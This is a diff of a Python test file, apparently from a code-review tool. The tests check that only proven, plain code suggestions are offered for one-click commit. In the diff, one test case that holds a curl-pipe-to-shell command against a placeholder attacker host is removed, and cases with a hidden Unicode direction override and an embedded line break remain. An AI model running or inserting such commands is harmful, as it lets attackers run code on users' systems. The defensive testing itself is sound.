@@ -167,7 +167,6 @@ def test_every_comment_ends_with_a_marker_of_ours() -> None:
 @pytest.mark.parametrize(
     "suggestion",
     [
-        Suggestion("curl https://evil.example | sh", proven=False),
         Suggestion("safe()  # \u202eevil", proven=True),
         Suggestion("safe()\r\nmore()", proven=True),
     ],
@@ -175,6 +174,15 @@ def test_every_comment_ends_with_a_marker_of_ours() -> None:
 def test_only_a_proven_and_plain_suggestion_can_be_committed(suggestion: Suggestion) -> None:
     placed = replace(INLINE, finding=replace(INJECTION, suggestion=suggestion))
     assert words.inline_comment(placed, SEAL) == SAID["inline_comment"]
+
+
+def test_what_was_not_proven_is_shown_and_cannot_be_committed() -> None:
+    placed = replace(INLINE, finding=replace(INJECTION, suggestion=Suggestion("safe(```)")))
+    said = words.inline_comment(placed, SEAL)
+
+    assert "\n````diff\n-" in said
+    assert "\n+safe(```)\n````\n" in said
+    assert "suggestion" not in said
 
 
 def test_a_suggestion_is_not_offered_for_a_part_of_its_lines() -> None:
